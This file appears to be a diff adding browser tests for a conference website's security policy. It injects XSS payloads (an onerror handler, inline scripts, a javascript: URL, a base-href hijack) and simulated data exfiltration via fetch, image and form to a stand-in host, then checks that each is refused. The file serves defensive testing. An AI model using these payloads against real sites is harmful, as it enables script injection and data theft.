@@ -1,0 +1,339 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { describe, expect } from 'vitest';
+import { ROUTES } from '../site-facts.ts';
+import { alive, CALM, test } from './visitor.ts';
+
+/** What the page has refused so far, as `directive blocked`; each is counted once, though two policies refuse it. */
+const refused = (page: Page) => page.evaluate(() => [...(window as unknown as Noting).refused]);
+
+interface Noting {
+  refused: Set<string>;
+}
+
+/** Notes what pages refuse, from the start of each. */
+async function noting(page: Page): Promise<Page> {
+  await page.addInitScript(() => {
+    const noted = new Set<string>();
+    (window as unknown as Noting).refused = noted;
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      noted.add(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+  return page;
+}
+
+test('every answer of the service has the headers that the build wrote for static hosts', async ({
+  origin,
+}) => {
+  const file = await (await fetch(`${origin}/_headers`)).text();
+  const list = [...file.matchAll(/^ {2}([\w-]+): (.+)$/gm)].map(([, name = '', value]) => [name, value]);
+  expect(list.map(([name]) => name)).toEqual([
+    'Content-Security-Policy',
+    'X-Content-Type-Options',
+    'Referrer-Policy',
+    'Permissions-Policy',
+    'Cross-Origin-Opener-Policy',
+    'Strict-Transport-Security',
+  ]);
+  const answers = [
+    ...Object.keys(ROUTES).map((route) => fetch(origin + route)),
+    ...['/index.json', '/sw.js', '/robots.txt', '/not-there', '/%'].map((file) => fetch(origin + file)),
+    ...['POST', 'DELETE', 'PUT'].map((method) => fetch(`${origin}/mail`, { method })),
+  ];
+  for (const { url, headers } of await Promise.all(answers)) {
+    // it is read by browsers of http://, and says nothing of TLS
+    const sent = list.map(([name = '']) => [name, headers.get(name)]);
+    expect(sent, url).toEqual(
+      list.map(([name, value]) => [name, name === 'Strict-Transport-Security' ? null : value]),
+    );
+  }
+});
+
+describe.each([...Object.keys(ROUTES), '/not-there'])('%s', (route) => {
+  test('needs nothing that its policy refuses, and says so itself', async ({ page, trouble }) => {
+    await noting(page);
+    await page.goto(route);
+    await alive(page);
+    expect(await refused(page)).toEqual([]);
+    expect(trouble).toEqual(CALM);
+    const own = await page
+      .locator('head > meta[http-equiv="Content-Security-Policy"]')
+      .getAttribute('content');
+    expect(own).toMatch(/^default-src 'none'; style-src 'sha256-[\w+/]{43}='; script-src 'self'; /);
+    expect(own).not.toMatch(/unsafe|\*|data:|http:/);
+  });
+});
+
+test('a visitor goes by script through pages of all kinds, back and forth, and nothing is refused', async ({
+  page,
+  trouble,
+}) => {
+  await noting(page);
+  await page.goto('/');
+  await alive(page);
+  await page.evaluate(() => Object.assign(window, { stayed: true }));
+  const go = async (name: string, heading: string) => {
+    await page.getByRole('link', { name, exact: true }).first().click();
+    await page.getByRole('heading', { level: 1, name: heading }).waitFor();
+    await alive(page);
+  };
+  await go('Committees', 'Committees');
+  await page.locator('#ccc').getByRole('link').first().click();
+  await page.getByRole('heading', { level: 1, name: 'CCC' }).waitFor();
+  await alive(page);
+  for (const [name, heading] of [
+    ['Secretariat', 'Secretariat'],
+    ['Registration', 'Registration'],
+    ['Resources', 'Delegate Resources'],
+    ['OC login', 'Login'],
+  ] as const)
+    await go(name, heading);
+  await page.goBack();
+  await page.getByRole('heading', { level: 1, name: 'Delegate Resources' }).waitFor();
+  await page.goForward();
+  await page.getByRole('heading', { level: 1, name: 'Login' }).waitFor();
+  await page.getByRole('button', { name: 'Toggle' }).click();
+  await expect.poll(() => page.getByLabel('Password').getAttribute('type')).toBe('text');
+  expect(await refused(page)).toEqual([]);
+  expect(await page.evaluate(() => 'stayed' in window)).toBe(true);
+  expect(trouble).toEqual(CALM);
+});
+
+test('our service worker is registered under the policy, and no other', async ({ open }) => {
+  const page = await noting(await open({ serviceWorkers: 'allow' }));
+  await page.goto('/');
+  await alive(page);
+  const script = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL);
+  expect(script).toMatch(/\/sw\.js$/);
+  expect(await refused(page)).toEqual([]);
+  const another = page.evaluate(() => navigator.serviceWorker.register('/assets/another.js'));
+  await expect(another).rejects.toThrow('TrustedScriptURL');
+});
+
+/** Where a script that got in would write that it ran. */
+interface Attacked {
+  attacked?: true;
+  trustedTypes: { createPolicy: (name: string, rules: object) => void };
+}
+
+const SINK = 'require-trusted-types-for trusted-types-sink';
+
+/** What a script that is not ours would do in a page, and what refuses it. */
+const DEEDS: [name: string, by: string, deed: () => unknown][] = [
+  [
+    'puts HTML into the page',
+    SINK,
+    () => {
+      document.body.innerHTML = '<img src="/x" onerror="attacked = true">';
+    },
+  ],
+  ['adds HTML to the page', SINK, () => document.body.insertAdjacentHTML('beforeend', '<b>hello</b>')],
+  [
+    'writes a frame',
+    SINK,
+    () => {
+      document.createElement('iframe').srcdoc = '<b>hello</b>';
+    },
+  ],
+  ['writes an event handler', SINK, () => document.body.setAttribute('onclick', 'attacked = true')],
+  [
+    'writes a script',
+    SINK,
+    () => document.head.appendChild(document.createElement('script')).append('attacked = true'),
+  ],
+  [
+    'makes a policy of its own',
+    'trusted-types trusted-types-policy',
+    () => (window as unknown as Attacked).trustedTypes.createPolicy('another', {}),
+  ],
+  [
+    'makes our policy once more',
+    'trusted-types trusted-types-policy',
+    () => (window as unknown as Attacked).trustedTypes.createPolicy('plenary', {}),
+  ],
+  [
+    'writes a style sheet',
+    'style-src-elem inline',
+    () => document.head.appendChild(document.createElement('style')).append('body { opacity: 0 }'),
+  ],
+  [
+    'writes a style attribute',
+    'style-src-attr inline',
+    () => document.body.setAttribute('style', 'opacity: 0'),
+  ],
+  [
+    'goes to an address that is a script',
+    'script-src-elem inline',
+    () => {
+      location.href = 'javascript:attacked = true';
+    },
+  ],
+  [
+    'moves all addresses elsewhere',
+    'base-uri https://elsewhere.example/',
+    () => {
+      document.head.appendChild(document.createElement('base')).href = 'https://elsewhere.example/';
+    },
+  ],
+  [
+    'tells somebody else by a picture',
+    'img-src https://elsewhere.example/?told',
+    () => {
+      new Image().src = 'https://elsewhere.example/?told';
+    },
+  ],
+  [
+    'tells somebody else',
+    'connect-src https://elsewhere.example/?told',
+    () => fetch('https://elsewhere.example/?told'),
+  ],
+  [
+    'sends a form elsewhere',
+    'form-action https://elsewhere.example/?',
+    () => {
+      const form = document.body.appendChild(document.createElement('form'));
+      form.action = 'https://elsewhere.example/';
+      form.submit();
+    },
+  ],
+  [
+    'shows another site in a frame',
+    'frame-src https://elsewhere.example',
+    () => {
+      document.body.appendChild(document.createElement('iframe')).src = 'https://elsewhere.example/';
+    },
+  ],
+];
+
+describe('a script that is not ours is refused when it', () => {
+  test.for(DEEDS)('%s', async ([, by, deed], { page }) => {
+    await noting(page);
+    let told = 0;
+    await page.route('https://elsewhere.example/**', (route) => {
+      told += 1;
+      return route.abort();
+    });
+    await page.goto('/committees/unsc');
+    await alive(page);
+    // some are refused by an error, the others without a word
+    await page.evaluate(deed).catch(() => {});
+    await expect.poll(() => refused(page)).toEqual([by]);
+    await expectUnharmed(page);
+    expect(told).toBe(0);
+  });
+});
+
+const MARKUP = `<p style="opacity: 0">hello</p><style>body { opacity: 0 }</style>
+<img src="/x" onerror="attacked = true"><script>attacked = true</script>
+<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>`;
+
+test('markup that is not ours is refused in a document', async ({ page }) => {
+  await noting(page);
+  await page.route('**/committees/unsc', async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace('<main', () => `${MARKUP}<main`) });
+  });
+  await page.goto('/committees/unsc');
+  await alive(page);
+  await expect
+    .poll(async () => (await refused(page)).sort())
+    .toEqual([
+      'script-src-attr inline',
+      'script-src-elem inline',
+      'style-src-attr inline',
+      'style-src-elem inline',
+    ]);
+  await expectUnharmed(page);
+});
+
+test('markup that is not ours is refused in a page that comes by script', async ({ page }) => {
+  await noting(page);
+  await page.route('**/committees/unsc.json', async (route) => {
+    const response = await route.fetch();
+    const json = await response.json();
+    await route.fulfill({ json: { ...json, html: [MARKUP + json.html[0], json.html[1]] } });
+  });
+  await page.goto('/committees');
+  await alive(page);
+  await page.locator('#unsc').getByRole('link').first().click();
+  await page.getByRole('heading', { level: 1, name: 'UNSC' }).waitFor();
+  // no browser runs script elements that come so
+  await expect
+    .poll(async () => (await refused(page)).sort())
+    .toEqual(['script-src-attr inline', 'style-src-attr inline', 'style-src-elem inline']);
+  await expectUnharmed(page);
+});
+
+test('no text becomes a script, not even in a script of ours', async ({ page }) => {
+  // what a test evaluates itself may do so
+  await page.route('**/assets/start-*.js', async (route) => {
+    const response = await route.fetch();
+    const tries = "try { eval('window.attacked = true') } catch (error) { window.told = error.name }";
+    await route.fulfill({ response, body: `${await response.text()};${tries}` });
+  });
+  await page.goto('/');
+  await alive(page);
+  expect(await page.evaluate(() => (window as unknown as { told: string }).told)).toBe('EvalError');
+  await expectUnharmed(page);
+});
+
+async function expectUnharmed(page: Page): Promise<void> {
+  expect(await page.evaluate(() => (window as unknown as Attacked).attacked)).toBeUndefined();
+  expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe('1');
+}
+
+test('no other site shows ours in a frame', async ({ page, origin }) => {
+  const other = createServer((_request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${origin}/login"></iframe>`);
+  });
+  other.listen(0, '127.0.0.1');
+  await once(other, 'listening');
+  const said = page.waitForEvent('console', (message) => message.text().includes("frame-ancestors 'none'"));
+  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
+  await said;
+  expect(await page.frameLocator('iframe').getByLabel('Password').count()).toBe(0);
+  await page.goto('about:blank');
+  other.close();
+});
+
+test('a frame holds the sites that site.yaml embeds, and none that they would lead to', async ({ page }) => {
+  await noting(page);
+  const answers = (body: string) => ({ contentType: 'text/html', body });
+  await page.route(/^https:\/\/docs\.google\.com\//, (route) => route.fulfill(answers('the sheet')));
+  await page.route('https://elsewhere.example/', (route) => route.fulfill(answers('another site')));
+  await page.goto('/committees/unsc');
+  await alive(page);
+  await page.getByRole('button', { name: 'Show the live sheet' }).click();
+  await page.frameLocator('iframe').getByText('the sheet').waitFor();
+  expect(await refused(page)).toEqual([]);
+  await page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
+    frame.src = 'https://elsewhere.example/';
+  });
+  await expect.poll(() => refused(page)).toEqual(['frame-src https://elsewhere.example']);
+  expect(await page.frameLocator('iframe').getByText('another site').count()).toBe(0);
+});
+
+test('a browser without Trusted Types has the same site', async ({ page, trouble }) => {
+  await page.addInitScript(() => {
+    Object.defineProperty(window, 'trustedTypes', { value: undefined });
+  });
+  await page.route(/\/[^./]*$/, async (route) => {
+    const response = await route.fetch();
+    const known = (policy = '') =>
+      policy.replace(/require-trusted-types-for 'script'; trusted-types plenary/, '');
+    const headers = {
+      ...response.headers(),
+      'content-security-policy': known(response.headers()['content-security-policy']),
+    };
+    await route.fulfill({ response, headers, body: known(await response.text()) });
+  });
+  await page.goto('/');
+  await alive(page);
+  await page.getByRole('banner').getByRole('link', { name: 'Committees' }).click();
+  await page.getByRole('heading', { level: 1, name: 'Committees' }).waitFor();
+  await alive(page);
+  expect(trouble).toEqual(CALM);
+});
